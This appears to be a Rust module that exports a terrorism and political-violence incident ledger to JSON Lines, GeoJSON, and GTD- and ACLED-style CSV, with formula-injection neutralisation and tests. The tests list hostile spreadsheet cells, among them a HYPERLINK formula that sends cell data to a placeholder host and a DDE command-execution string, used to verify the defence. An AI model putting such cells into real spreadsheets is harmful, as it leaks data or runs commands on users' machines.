//! Exports of the ledger and the documents: JSON Lines in the schema of the export contract
//! (`shared/eval/README.md`, schema v1), and the ledger in the column sets analysts already load
//! elsewhere — the Global Terrorism Database's CSV, ACLED's CSV — and as GeoJSON points.
//!
//! The CSV mappings keep annalist's meaning where the target has no slot for it: a range is
//! written as its low (the conservative figure both datasets code) with the high in an extra
//! column, and a date interval as its first day with GTD's `approxdate` or an extra end column.
//!
//! Cells come from article text, so the CSV exports neutralise formulas (OWASP's rule: a cell
//! beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, unless it is
//! a plain number such as a negative longitude) and quote every field holding a comma, a quote
//! or a line break (the `csv` crate's writer).

use annalist_knowledge::{ActorBase, ActorKind, Gazetteer};
use annalist_model::{AttributionStatus, CountRange, EventType, Field, Incident, Target, Weapon};
use annalist_review::ReviewState;
use annalist_store::Store;
use anyhow::Result;
use serde_json::{json, Value};
use std::collections::HashMap;
use std::io::Write;

fn count(c: &Option<CountRange>) -> Value {
    match c {
        Some(c) => json!({"low": c.low, "high": c.high}),
        None => Value::Null,
    }
}

/// One incident as an export-contract object, with `reviewed` (whether a person reviewed it)
/// and, where review changed fields, what the machine said (`machine`) and any rejection.
pub fn incident_json(inc: &Incident, state: Option<&ReviewState>) -> Value {
    // the contract's fields only (weapon and target claims are annalist's own, see the CSVs;
    // the attribution ledger is shown by `annalist show` and the workbench)
    let evidence: Vec<Value> = inc
        .claims
        .iter()
        .filter(|c| !matches!(c.field, Field::Weapon | Field::Target | Field::Attribution | Field::Name))
        .map(|c| json!({"field": c.field.as_str(), "document": c.document, "quote": c.quote, "start": c.start, "end": c.end}))
        .collect();
    let mut v = json!({
        "id": inc.id,
        "type": inc.event_type.as_str(),
        "date_start": inc.date_start.map(|d| d.to_string()),
        "date_end": inc.date_end.map(|d| d.to_string()),
        "country": inc.country,
        "place": inc.place,
        "lat": inc.lat,
        "lon": inc.lon,
        "perpetrators": inc.perpetrators.iter().map(|p| json!({"name": p.name, "status": p.status.as_str()})).collect::<Vec<_>>(),
        "killed": count(&inc.killed),
        "wounded": count(&inc.wounded),
        "suicide": inc.suicide,
        "attackers": inc.attackers,
        "sources": inc.sources,
        "evidence": evidence,
        "reviewed": state.is_some_and(ReviewState::reviewed),
    });
    // beyond the contract's columns, where a source tells it: attackers who died
    if let (Some(dead), Some(object)) = (inc.attackers_killed, v.as_object_mut()) {
        object.insert("attackers_killed".into(), count(&Some(dead)));
    }
    if let (Some(state), Some(object)) = (state, v.as_object_mut()) {
        if !state.machine.is_empty() {
            object.insert("machine".into(), json!(state.machine));
        }
        if let Some(r) = state.rejected {
            object.insert("rejected".into(), json!(r.as_str()));
        }
    }
    v
}

pub fn documents_jsonl(store: &Store, out: &mut dyn Write) -> Result<usize> {
    let docs = store.documents()?;
    for d in &docs {
        let v = json!({
            "id": d.id,
            "title": d.title,
            "published": d.published.map(|p| p.to_string()),
            "duplicate_of": d.duplicate_of,
            "text": d.text,
            "relevance": d.relevance,
        });
        serde_json::to_writer(&mut *out, &v)?;
        out.write_all(b"\n")?;
    }
    Ok(docs.len())
}

fn country_name(iso2: Option<&str>) -> String {
    let Some(iso2) = iso2 else { return String::new() };
    Gazetteer::builtin().country(iso2).map_or_else(|| iso2.to_string(), |c| c.name.clone())
}

/// The place below the country, or nothing when the incident is placed only in its country.
fn city(inc: &Incident) -> String {
    match &inc.place {
        Some(p) if *p != country_name(inc.country.as_deref()) => p.clone(),
        _ => String::new(),
    }
}

fn opt<T: ToString>(v: Option<T>) -> String {
    v.map(|v| v.to_string()).unwrap_or_default()
}

/// The perpetrator a dataset's single actor column takes: the strongest tie (claimed, then
/// attributed, then suspected); an allegation alone is not a perpetrator there.
fn lead_perpetrator(inc: &Incident) -> Option<&str> {
    inc.perpetrators
        .iter()
        .filter(|p| {
            matches!(
                p.status,
                AttributionStatus::Claimed | AttributionStatus::Attributed | AttributionStatus::Suspected
            )
        })
        .min_by_key(|p| p.status)
        .map(|p| p.name.as_str())
}

/// The sentence that first reports the incident (its earliest type claim).
fn summary(inc: &Incident) -> String {
    let first =
        inc.claims.iter().filter(|c| c.field == Field::Type).min_by_key(|c| (c.published, &c.document, c.start));
    first.map(|c| c.quote.clone()).unwrap_or_default()
}

fn outlets(inc: &Incident) -> String {
    let mut names: Vec<&str> = inc.claims.iter().filter_map(|c| c.outlet.as_deref()).collect();
    names.sort();
    names.dedup();
    names.join("; ")
}

/// GTD's attack type names (the types GTD does not code never reach it: `in_gtd_scope`).
fn gtd_attack_type(t: EventType) -> &'static str {
    match t {
        EventType::Bombing => "Bombing/Explosion",
        EventType::ArmedAssault => "Armed Assault",
        EventType::Assassination => "Assassination",
        EventType::Hijacking => "Hijacking",
        EventType::HostageTaking => "Hostage Taking (Barricade Incident)",
        EventType::Kidnapping => "Hostage Taking (Kidnapping)",
        EventType::FacilityAttack => "Facility/Infrastructure Attack",
        EventType::UnarmedAssault => "Unarmed Assault",
        EventType::Unknown => "Unknown",
        other => other.as_str(),
    }
}

/// ACLED's event type and sub-event type for an annalist type.
fn acled_type(inc: &Incident) -> (&'static str, &'static str) {
    match inc.event_type {
        EventType::Bombing if inc.suicide == Some(true) => ("Explosions/Remote violence", "Suicide bomb"),
        EventType::Bombing => ("Explosions/Remote violence", "Remote explosive/landmine/IED"),
        EventType::Airstrike => ("Explosions/Remote violence", "Air/drone strike"),
        EventType::ArmedAssault | EventType::Assassination | EventType::UnarmedAssault | EventType::FacilityAttack => {
            ("Violence against civilians", "Attack")
        }
        EventType::Kidnapping | EventType::HostageTaking | EventType::Hijacking => {
            ("Violence against civilians", "Abduction/forced disappearance")
        }
        EventType::Arrest => ("Strategic developments", "Arrests"),
        EventType::FoiledPlot => ("Strategic developments", "Disrupted weapons use"),
        EventType::Unknown => ("Strategic developments", "Other"),
    }
}

const GTD_COLUMNS: [&str; 24] = [
    "eventid",
    "iyear",
    "imonth",
    "iday",
    "approxdate",
    "country_txt",
    "provstate",
    "city",
    "latitude",
    "longitude",
    "attacktype1_txt",
    "targtype1_txt",
    "gname",
    "claimed",
    "nkill",
    "nkill_high",
    "nkillter",
    "nwound",
    "nwound_high",
    "suicide",
    "nperps",
    "weaptype1_txt",
    "summary",
    "scite1",
];

/// Whether GTD codes an incident of this type. Its codebook takes intentional violence by
/// sub-national actors that was at least attempted: an arrest is no attack, a plot foiled
/// before it was attempted is left out, and an air strike is a state's act; those rows are
/// left out of the GTD export (the ACLED export and the JSON Lines keep them).
fn in_gtd_scope(t: EventType) -> bool {
    !matches!(t, EventType::Arrest | EventType::FoiledPlot | EventType::Airstrike)
}

/// Everyone who died, victims and attackers together, as GTD's `nkill` and ACLED's
/// `fatalities` count them (the ledger's `killed` counts the victims alone).
fn all_killed(inc: &Incident) -> Option<CountRange> {
    match (inc.killed, inc.attackers_killed) {
        (Some(k), Some(a)) => Some(CountRange { low: k.low + a.low, high: k.high.zip(a.high).map(|(x, y)| x + y) }),
        (k, a) => k.or(a),
    }
}

/// One GTD-style row (see `GTD_COLUMNS`). A date known only to the month or year has `iday`
/// (and `imonth`) 0, as in GTD, with the interval in `approxdate`.
fn gtd_row(inc: &Incident) -> Vec<String> {
    let (start, end) = (inc.date_start, inc.date_end.or(inc.date_start));
    let (year, month, day, approx) = match (start, end) {
        (Some(s), Some(e)) if s == e => {
            (s.format("%Y").to_string(), s.format("%-m").to_string(), s.format("%-d").to_string(), String::new())
        }
        (Some(s), Some(e)) => {
            let month = if s.format("%Y-%m").to_string() == e.format("%Y-%m").to_string() {
                s.format("%-m").to_string()
            } else {
                "0".into()
            };
            (s.format("%Y").to_string(), month, "0".into(), format!("{s}..{e}"))
        }
        _ => Default::default(),
    };
    let claimed = inc.perpetrators.iter().any(|p| p.status == AttributionStatus::Claimed);
    vec![
        inc.id.clone(),
        year,
        month,
        day,
        approx,
        country_name(inc.country.as_deref()),
        String::new(),
        city(inc),
        opt(inc.lat),
        opt(inc.lon),
        gtd_attack_type(inc.event_type).to_string(),
        inc.target.map(gtd_target_type).unwrap_or_default().to_string(),
        lead_perpetrator(inc).unwrap_or("Unknown").to_string(),
        if inc.perpetrators.is_empty() { String::new() } else { (claimed as u8).to_string() },
        opt(all_killed(inc).map(|k| k.low)),
        opt(all_killed(inc).and_then(|k| k.high)),
        opt(inc.attackers_killed.map(|k| k.low)),
        opt(inc.wounded.map(|k| k.low)),
        opt(inc.wounded.and_then(|k| k.high)),
        opt(inc.suicide.map(|s| s as u8)),
        opt(inc.attackers),
        inc.weapon.map(gtd_weapon_type).unwrap_or_default().to_string(),
        summary(inc),
        inc.sources.join("; "),
    ]
}

/// `cell` as a spreadsheet reads it without running it: a leading `'` before a cell that
/// opens with a formula character (`=`, `+`, `-`, `@`, tab, CR), except a plain number.
fn spreadsheet_safe(cell: &str) -> String {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = cell.len() < 32
        && cell.bytes().all(|b| b.is_ascii_digit() || b"+-.eE".contains(&b))
        && cell.parse::<f64>().is_ok();
    if formula && !number {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

fn gtd_weapon_type(w: Weapon) -> &'static str {
    match w {
        Weapon::Firearm => "Firearms",
        Weapon::Explosive | Weapon::Missile => "Explosives",
        Weapon::Incendiary => "Incendiary",
        Weapon::Melee => "Melee",
        Weapon::Vehicle => "Vehicle (not to include vehicle-borne explosives, i.e., car or truck bombs)",
        Weapon::Chemical => "Chemical",
    }
}

fn gtd_target_type(t: Target) -> &'static str {
    match t {
        Target::Civilians => "Private Citizens & Property",
        Target::Police => "Police",
        Target::Military => "Military",
        Target::Officials | Target::Government => "Government (General)",
        Target::Journalists => "Journalists & Media",
        Target::Worshippers | Target::ReligiousSite => "Religious Figures/Institutions",
        Target::Business => "Business",
        Target::Education => "Educational Institution",
        Target::Transport => "Transportation",
        Target::Infrastructure => "Utilities",
        Target::Diplomatic => "Government (Diplomatic)",
    }
}

/// ACLED's columns as its data export names them, then annalist's own (the interval's last day
/// and the source documents' ids). Columns the ledger cannot fill (`region`, `admin2`, `admin3`,
/// `source_scale`, `tags`, `timestamp`) are there and empty, so tools that read ACLED files
/// by column name load these.
const ACLED_COLUMNS: [&str; 33] = [
    "event_id_cnty",
    "event_date",
    "year",
    "time_precision",
    "disorder_type",
    "event_type",
    "sub_event_type",
    "actor1",
    "assoc_actor_1",
    "inter1",
    "actor2",
    "assoc_actor_2",
    "inter2",
    "interaction",
    "civilian_targeting",
    "iso",
    "region",
    "country",
    "admin1",
    "admin2",
    "admin3",
    "location",
    "latitude",
    "longitude",
    "geo_precision",
    "source",
    "source_scale",
    "notes",
    "fatalities",
    "tags",
    "timestamp",
    "event_date_end",
    "source_documents",
];

/// ACLED's actor type codes (`inter1`, `inter2`): 1 state forces, 2 rebel groups, 3 political
/// militias, 7 civilians. An unnamed perpetrator is ACLED's "Unidentified Armed Group", coded 3.
fn acled_actor_type(name: &str) -> u8 {
    let base = ActorBase::builtin();
    match base.actors().iter().find(|a| a.name == name).map(|a| a.kind) {
        Some(ActorKind::State | ActorKind::StateForce) => 1,
        Some(ActorKind::ArmedGroup) => 2,
        _ => 3,
    }
}

/// The side an incident's target puts opposite the perpetrator, with its actor type: civilians
/// (7), or the state's police or military (1); `None` for targets that name no side.
fn acled_target_actor(inc: &Incident, country: &str) -> Option<(String, u8)> {
    match inc.target? {
        Target::Police => Some((state_force("Police Forces", country), 1)),
        Target::Military => Some((state_force("Military Forces", country), 1)),
        Target::Officials | Target::Government | Target::Diplomatic | Target::Infrastructure => None,
        Target::Civilians
        | Target::Journalists
        | Target::Worshippers
        | Target::ReligiousSite
        | Target::Business
        | Target::Education
        | Target::Transport => {
            Some((if country.is_empty() { "Civilians".into() } else { format!("Civilians ({country})") }, 7))
        }
    }
}

/// ACLED's name of a state's force: "Police Forces of Belgium".
fn state_force(force: &str, country: &str) -> String {
    if country.is_empty() {
        force.to_string()
    } else {
        format!("{force} of {country}")
    }
}

/// ACLED's two sides of an incident with their actor types: the perpetrator (a named group, or
/// an Unidentified Armed Group of the country) against the target's side; for an arrest or a
/// disrupted plot, the police who acted against the perpetrators.
fn acled_sides(inc: &Incident, country: &str) -> ((String, u8), Option<(String, u8)>) {
    let perpetrator = lead_perpetrator(inc).map(|name| (name.to_string(), acled_actor_type(name)));
    if matches!(inc.event_type, EventType::Arrest | EventType::FoiledPlot) {
        return ((state_force("Police Forces", country), 1), perpetrator);
    }
    let actor1 = perpetrator.unwrap_or_else(|| match country {
        "" => ("Unidentified Armed Group".to_string(), 3),
        c => (format!("Unidentified Armed Group ({c})"), 3),
    });
    (actor1, acled_target_actor(inc, country))
}

/// ACLED's interaction code: the two actor types, lower first ("27": rebels against civilians),
/// or the one type and 0 for an event with one side ("20").
fn acled_interaction(inter1: u8, inter2: Option<u8>) -> String {
    match inter2 {
        Some(b) => format!("{}{}", inter1.min(b), inter1.max(b)),
        None => format!("{inter1}0"),
    }
}

/// ACLED's time precision: 1 the day is known, 2 a week or less, 3 a month or more.
fn acled_time_precision(inc: &Incident) -> String {
    match (inc.date_start, inc.date_end.or(inc.date_start)) {
        (Some(s), Some(e)) if s == e => "1".into(),
        (Some(s), Some(e)) if (e - s).num_days() <= 7 => "2".into(),
        (Some(_), Some(_)) => "3".into(),
        _ => String::new(),
    }
}

/// ISO 3166-1 numeric code of a country (ACLED's `iso`), from `data/iso3166-numeric.tsv`.
fn iso_numeric(iso2: &str) -> Option<u16> {
    static TABLE: std::sync::OnceLock<HashMap<&'static str, u16>> = std::sync::OnceLock::new();
    let table = TABLE.get_or_init(|| {
        include_str!("../data/iso3166-numeric.tsv")
            .lines()
            .filter_map(|l| l.split_once('\t'))
            .filter_map(|(a, n)| Some((a, n.parse().ok()?)))
            .collect()
    });
    table.get(iso2).copied()
}

/// The outlets that reported the incident, as ACLED's `source` names them: the outlets the
/// claims name, else the web hosts of the source documents.
fn acled_source(store: &Store, inc: &Incident) -> Result<String> {
    let named = outlets(inc);
    if !named.is_empty() {
        return Ok(named);
    }
    let mut hosts = Vec::new();
    for id in &inc.sources {
        let Some(doc) = store.document(id)? else { continue };
        let outlet = doc.outlet.or_else(|| doc.url.as_deref().and_then(url_host));
        hosts.extend(outlet);
    }
    hosts.sort();
    hosts.dedup();
    Ok(hosts.join("; "))
}

/// `www.example.com` of `https://www.example.com/path`.
fn url_host(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let host = rest.split(['/', '?', '#']).next()?.rsplit('@').next()?;
    let host = host.split(':').next()?;
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// One ACLED-style row (see `ACLED_COLUMNS`). `fatalities` is the conservative low, as ACLED
/// codes it, and empty where no source gives a toll (ACLED's 0 would say that none died);
/// arrests and foiled plots are ACLED's strategic developments ("Arrests", "Disrupted weapons
/// use"), as its codebook files them.
fn acled_row(store: &Store, inc: &Incident) -> Result<Vec<String>> {
    let (event_type, sub_event_type) = acled_type(inc);
    let country = country_name(inc.country.as_deref());
    let ((actor1, inter1), target) = acled_sides(inc, &country);
    let inter2 = target.as_ref().map(|t| t.1);
    let disorder = if event_type == "Strategic developments" { "Strategic developments" } else { "Political violence" };
    let geo_precision = match (&inc.lat, city(inc).is_empty()) {
        (None, _) => "",
        (Some(_), false) => "1",
        (Some(_), true) => "3",
    };
    Ok(vec![
        inc.id.clone(),
        opt(inc.date_start),
        opt(inc.date_start.map(|d| d.format("%Y").to_string())),
        acled_time_precision(inc),
        disorder.to_string(),
        event_type.to_string(),
        sub_event_type.to_string(),
        actor1,
        String::new(),
        inter1.to_string(),
        target.as_ref().map(|t| t.0.clone()).unwrap_or_default(),
        String::new(),
        opt(inter2),
        acled_interaction(inter1, inter2),
        if inter2 == Some(7) { "Civilian targeting".to_string() } else { String::new() },
        opt(inc.country.as_deref().and_then(iso_numeric)),
        String::new(),
        country,
        String::new(),
        String::new(),
        String::new(),
        city(inc),
        opt(inc.lat),
        opt(inc.lon),
        geo_precision.to_string(),
        acled_source(store, inc)?,
        String::new(),
        summary(inc),
        opt(all_killed(inc).map(|k| k.low)),
        String::new(),
        String::new(),
        opt(inc.date_end),
        inc.sources.join("; "),
    ])
}

/// The export contract's fields as CSV columns (a range as its low and high, perpetrators as
/// `name (status)` joined by `; `).
const CONTRACT_COLUMNS: [&str; 16] = [
    "id",
    "type",
    "date_start",
    "date_end",
    "country",
    "place",
    "lat",
    "lon",
    "perpetrators",
    "killed_low",
    "killed_high",
    "wounded_low",
    "wounded_high",
    "suicide",
    "attackers",
    "sources",
];

fn contract_row(inc: &Incident) -> Vec<String> {
    let perps: Vec<String> = inc.perpetrators.iter().map(|p| format!("{} ({})", p.name, p.status.as_str())).collect();
    vec![
        inc.id.clone(),
        inc.event_type.as_str().to_string(),
        opt(inc.date_start),
        opt(inc.date_end),
        inc.country.clone().unwrap_or_default(),
        inc.place.clone().unwrap_or_default(),
        opt(inc.lat),
        opt(inc.lon),
        perps.join("; "),
        opt(inc.killed.map(|k| k.low)),
        opt(inc.killed.and_then(|k| k.high)),
        opt(inc.wounded.map(|k| k.low)),
        opt(inc.wounded.and_then(|k| k.high)),
        opt(inc.suicide),
        opt(inc.attackers),
        inc.sources.join("; "),
    ]
}

/// Review columns every CSV export ends with: whether a person reviewed the row, and why it
/// was rejected (only rows asked for with `--include-rejected` have one).
const REVIEW_COLUMNS: [&str; 2] = ["reviewed", "rejected"];

fn review_cells(state: Option<&ReviewState>) -> [String; 2] {
    [
        (state.is_some_and(ReviewState::reviewed) as u8).to_string(),
        state.and_then(|s| s.rejected).map(|r| r.as_str().to_string()).unwrap_or_default(),
    ]
}

/// One incident as a GeoJSON feature; without coordinates its geometry is null (valid
/// GeoJSON), so no incident is dropped.
fn geojson_feature(inc: &Incident, state: Option<&ReviewState>) -> Value {
    let geometry = match (inc.lon, inc.lat) {
        (Some(lon), Some(lat)) => json!({"type": "Point", "coordinates": [lon, lat]}),
        _ => Value::Null,
    };
    let mut properties = incident_json(inc, state);
    if let Some(p) = properties.as_object_mut() {
        p.remove("evidence");
        p.insert("country_name".into(), json!(country_name(inc.country.as_deref())));
    }
    json!({"type": "Feature", "id": inc.id, "geometry": geometry, "properties": properties})
}

/// The formats the ledger exports to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LedgerFormat {
    /// JSON Lines in the export contract's schema.
    Jsonl,
    /// CSV of the export contract's fields.
    Csv,
    /// CSV in the Global Terrorism Database's column set.
    GtdCsv,
    /// CSV in ACLED's column set.
    AcledCsv,
    /// A GeoJSON FeatureCollection, one point per incident.
    Geojson,
}

impl LedgerFormat {
    pub const ALL: [LedgerFormat; 5] =
        [LedgerFormat::Jsonl, LedgerFormat::Csv, LedgerFormat::GtdCsv, LedgerFormat::AcledCsv, LedgerFormat::Geojson];

    pub fn as_str(&self) -> &'static str {
        match self {
            LedgerFormat::Jsonl => "jsonl",
            LedgerFormat::Csv => "csv",
            LedgerFormat::GtdCsv => "gtd-csv",
            LedgerFormat::AcledCsv => "acled-csv",
            LedgerFormat::Geojson => "geojson",
        }
    }

    pub fn parse(s: &str) -> Option<LedgerFormat> {
        LedgerFormat::ALL.into_iter().find(|f| f.as_str() == s)
    }
}

enum Sink<'a> {
    Csv(Box<csv::Writer<&'a mut dyn Write>>),
    Raw(&'a mut dyn Write),
}

/// How many rows an export wrote, and how many it left out (GTD codes no arrests, plots foiled
/// before an attack or air strikes: `in_gtd_scope`).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Written {
    pub rows: usize,
    pub left_out: usize,
}

/// A ledger export in progress, one row at a time, so that a ledger of any length streams:
/// the header (or GeoJSON's opening) on creation, the closing on [`LedgerWriter::finish`].
/// CSV cells are spreadsheet-safe (`spreadsheet_safe`).
pub struct LedgerWriter<'a> {
    format: LedgerFormat,
    store: &'a Store,
    sink: Sink<'a>,
    written: Written,
}

impl<'a> LedgerWriter<'a> {
    pub fn new(format: LedgerFormat, store: &'a Store, out: &'a mut dyn Write) -> Result<LedgerWriter<'a>> {
        let sink = match format {
            LedgerFormat::Jsonl => Sink::Raw(out),
            LedgerFormat::Geojson => {
                out.write_all(b"{\"type\":\"FeatureCollection\",\"features\":[")?;
                Sink::Raw(out)
            }
            csv_format => {
                let mut w = csv::Writer::from_writer(out);
                let columns: &[&str] = match csv_format {
                    LedgerFormat::GtdCsv => &GTD_COLUMNS,
                    LedgerFormat::AcledCsv => &ACLED_COLUMNS,
                    _ => &CONTRACT_COLUMNS,
                };
                w.write_record(columns.iter().chain(&REVIEW_COLUMNS))?;
                Sink::Csv(Box::new(w))
            }
        };
        Ok(LedgerWriter { format, store, sink, written: Written::default() })
    }

    /// Writes one incident with what review changed on it.
    pub fn write(&mut self, inc: &Incident, state: Option<&ReviewState>) -> Result<()> {
        if self.format == LedgerFormat::GtdCsv && !in_gtd_scope(inc.event_type) {
            self.written.left_out += 1;
            return Ok(());
        }
        match &mut self.sink {
            Sink::Raw(out) if self.format == LedgerFormat::Geojson => {
                if self.written.rows > 0 {
                    out.write_all(b",")?;
                }
                serde_json::to_writer(&mut **out, &geojson_feature(inc, state))?;
            }
            Sink::Raw(out) => {
                serde_json::to_writer(&mut **out, &incident_json(inc, state))?;
                out.write_all(b"\n")?;
            }
            Sink::Csv(w) => {
                let mut row = match self.format {
                    LedgerFormat::GtdCsv => gtd_row(inc),
                    LedgerFormat::AcledCsv => acled_row(self.store, inc)?,
                    _ => contract_row(inc),
                };
                row.extend(review_cells(state));
                w.write_record(row.iter().map(|c| spreadsheet_safe(c)))?;
            }
        }
        self.written.rows += 1;
        Ok(())
    }

    /// Ends the export (GeoJSON's closing brackets) and flushes it.
    pub fn finish(self) -> Result<Written> {
        match self.sink {
            Sink::Raw(out) => {
                if self.format == LedgerFormat::Geojson {
                    out.write_all(b"]}\n")?;
                }
                out.flush()?;
            }
            Sink::Csv(mut w) => w.flush()?,
        }
        Ok(self.written)
    }
}

/// The workbench's download: the ledger rows `query` selects, in its order and all of them,
/// each read and written in turn (`format` by its name: `csv`, `gtd-csv`, `acled-csv`, `jsonl`,
/// `geojson`).
pub fn write_view(
    store: &Store,
    query: &annalist_store::IncidentQuery,
    format: &str,
    out: &mut dyn Write,
) -> Result<()> {
    let names: Vec<&str> = LedgerFormat::ALL.iter().map(LedgerFormat::as_str).collect();
    let format = LedgerFormat::parse(format)
        .ok_or_else(|| anyhow::anyhow!("{format:?} is not an export format; one of: {}", names.join(", ")))?;
    let page = store.query_incidents(query)?;
    let states = store.review_states()?;
    let mut w = LedgerWriter::new(format, store, out)?;
    for row in &page.rows {
        if let Some(inc) = store.incident_exact(&row.id)? {
            w.write(&inc, states.get(&inc.id))?;
        }
    }
    w.finish()?;
    Ok(())
}

/// Exports `incidents` (with their review states) in `format`.
pub fn write_ledger(
    format: LedgerFormat,
    store: &Store,
    incidents: &[Incident],
    states: &HashMap<String, ReviewState>,
    out: &mut dyn Write,
) -> Result<Written> {
    let mut w = LedgerWriter::new(format, store, out)?;
    for inc in incidents {
        w.write(inc, states.get(&inc.id))?;
    }
    w.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use annalist_model::Perpetrator;

    const HOSTILE: [&str; 8] = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "a, \"quoted\"\nsecond line",
        "plain",
    ];

    fn incident(n: usize, text: &str) -> Incident {
        Incident {
            id: format!("inc_{n}"),
            event_type: EventType::Bombing,
            date_start: NaiveDate::from_ymd_opt(2024, 1, 3),
            date_end: NaiveDate::from_ymd_opt(2024, 1, 3),
            country: Some("IR".into()),
            place: Some(text.into()),
            lat: Some(30.28),
            lon: Some(-57.08),
            perpetrators: vec![Perpetrator { name: text.into(), status: AttributionStatus::Claimed }],
            killed: Some(CountRange::exact(3)),
            wounded: None,
            suicide: None,
            attackers: None,
            attackers_killed: None,
            weapon: None,
            target: None,
            sources: vec![text.into()],
            independent_sources: 1,
            claims: Vec::new(),
            conflicts: Vec::new(),
            related: Vec::new(),
            mentioned_in: Vec::new(),
        }
    }

    use chrono::NaiveDate;

    #[test]
    fn hostile_cells_round_trip_through_both_csv_formats_neutralised() {
        let mut store = Store::in_memory().unwrap();
        let incidents: Vec<Incident> = HOSTILE.iter().enumerate().map(|(n, t)| incident(n, t)).collect();
        store.replace_incidents(&incidents).unwrap();
        for (export, place_col, actor_col, lon_col) in [
            (gtd as Export, "city", "gname", "longitude"),
            (incidents_acled_csv as Export, "location", "actor1", "longitude"),
        ] {
            let mut out = Vec::new();
            assert_eq!(export(&store, &incidents, &mut out).unwrap(), HOSTILE.len());
            let mut reader = csv::Reader::from_reader(out.as_slice());
            let headers = reader.headers().unwrap().clone();
            let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
            let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            assert_eq!(rows.len(), HOSTILE.len());
            for row in &rows {
                let n: usize = row[0].trim_start_matches("inc_").parse().unwrap();
                let text = HOSTILE[n];
                let expected = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                    format!("'{text}")
                } else {
                    text.to_string()
                };
                assert_eq!(&row[col(place_col)], expected, "{row:?}");
                assert_eq!(&row[col(actor_col)], expected, "{row:?}");
                // a negative coordinate is a number, left as it is
                assert_eq!(&row[col(lon_col)], "-57.08");
                for cell in row.iter() {
                    assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
                    assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
                }
            }
        }
    }

    type Export = fn(&Store, &[Incident], &mut dyn Write) -> Result<usize>;

    fn gtd(store: &Store, incidents: &[Incident], out: &mut dyn Write) -> Result<usize> {
        Ok(write_ledger(LedgerFormat::GtdCsv, store, incidents, &HashMap::new(), out)?.rows)
    }

    fn incidents_acled_csv(store: &Store, incidents: &[Incident], out: &mut dyn Write) -> Result<usize> {
        Ok(write_ledger(LedgerFormat::AcledCsv, store, incidents, &HashMap::new(), out)?.rows)
    }

    /// The rows of an export of `incidents`, as (header → cell) maps.
    fn exported(export: Export, incidents: &[Incident]) -> Vec<HashMap<String, String>> {
        let mut store = Store::in_memory().unwrap();
        store.replace_incidents(incidents).unwrap();
        let mut out = Vec::new();
        export(&store, incidents, &mut out).unwrap();
        let mut reader = csv::Reader::from_reader(out.as_slice());
        let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        reader.records().map(|r| headers.iter().cloned().zip(r.unwrap().iter().map(String::from)).collect()).collect()
    }

    #[test]
    fn acled_rows_leave_unknowns_empty_and_code_actors_time_and_country() {
        let mut unknown_toll = incident(0, "Kerman");
        unknown_toll.killed = None;
        unknown_toll.perpetrators.clear();
        unknown_toll.target = Some(Target::Civilians);
        let mut week = incident(1, "Kerman");
        week.date_end = NaiveDate::from_ymd_opt(2024, 1, 8);
        week.perpetrators = vec![Perpetrator { name: "Islamic State".into(), status: AttributionStatus::Claimed }];
        week.target = Some(Target::Police);
        let rows = exported(incidents_acled_csv, &[unknown_toll, week]);
        let (a, b) = (&rows[0], &rows[1]);
        assert_eq!(a["fatalities"], "", "no toll is not a toll of 0");
        assert_eq!(a["actor1"], "Unidentified Armed Group (Iran)");
        assert_eq!((a["inter1"].as_str(), a["inter2"].as_str(), a["interaction"].as_str()), ("3", "7", "37"));
        assert_eq!(a["actor2"], "Civilians (Iran)");
        assert_eq!(a["civilian_targeting"], "Civilian targeting");
        assert_eq!((a["iso"].as_str(), a["year"].as_str(), a["time_precision"].as_str()), ("364", "2024", "1"));
        assert_eq!(a["disorder_type"], "Political violence");
        assert_eq!(b["fatalities"], "3");
        assert_eq!((b["inter1"].as_str(), b["inter2"].as_str(), b["interaction"].as_str()), ("2", "1", "12"));
        assert_eq!(b["actor2"], "Police Forces of Iran");
        assert_eq!(b["time_precision"], "2", "a five-day interval is within a week");
        assert_eq!(b["event_date_end"], "2024-01-08");
    }

    #[test]
    fn a_download_of_the_view_has_every_row_the_filters_take_in_its_order() {
        let mut store = Store::in_memory().unwrap();
        let incidents: Vec<Incident> = (0..450)
            .map(|n| {
                let mut inc = incident(n, "Kerman");
                inc.killed = Some(CountRange::exact(n as u64));
                if n % 3 == 0 {
                    inc.country = Some("PK".into());
                }
                inc
            })
            .collect();
        store.replace_incidents(&incidents).unwrap();
        let query = annalist_store::IncidentQuery {
            country: Some("IR".into()),
            sort: annalist_store::IncidentSort::Killed,
            descending: true,
            limit: usize::MAX,
            ..Default::default()
        };
        let mut out = Vec::new();
        write_view(&store, &query, "jsonl", &mut out).unwrap();
        let killed: Vec<u64> = String::from_utf8(out)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap()["killed"]["low"].as_u64().unwrap())
            .collect();
        assert_eq!(killed.len(), 300, "no cap: every Iranian row");
        assert!(killed.windows(2).all(|w| w[0] > w[1]), "sorted as on screen");
        let mut csv = Vec::new();
        write_view(&store, &query, "gtd-csv", &mut csv).unwrap();
        assert_eq!(csv::Reader::from_reader(csv.as_slice()).records().count(), 300);
        let e = write_view(&store, &query, "xls", &mut Vec::new()).unwrap_err().to_string();
        assert!(e.contains("one of: jsonl, csv"), "{e}");
    }

    #[test]
    fn acled_source_names_the_outlet_or_the_web_host() {
        assert_eq!(url_host("https://www.Example.org:443/news/1?x=2").as_deref(), Some("www.example.org"));
        assert_eq!(url_host("not a url"), None);
    }

    #[test]
    fn gtd_rows_leave_out_what_gtd_does_not_code() {
        let mut arrest = incident(0, "Kerman");
        arrest.event_type = EventType::Arrest;
        let mut plot = incident(1, "Kerman");
        plot.event_type = EventType::FoiledPlot;
